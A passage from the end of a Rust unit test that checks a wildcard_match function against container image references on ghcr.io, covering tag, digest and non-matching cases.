        assert!(wildcard_match("ghcr.io/o/x*", "ghcr.io/o/x@sha256:ab"));
        assert!(wildcard_match("ghcr.io/?/x:*", "ghcr.io/o/x:v1"));
        assert!(!wildcard_match("ghcr.io/o/x*", "ghcr.io/other/x:v1"));
        assert!(!wildcard_match("ghcr.io/o/x", "ghcr.io/o/x:v1"));
    }
}
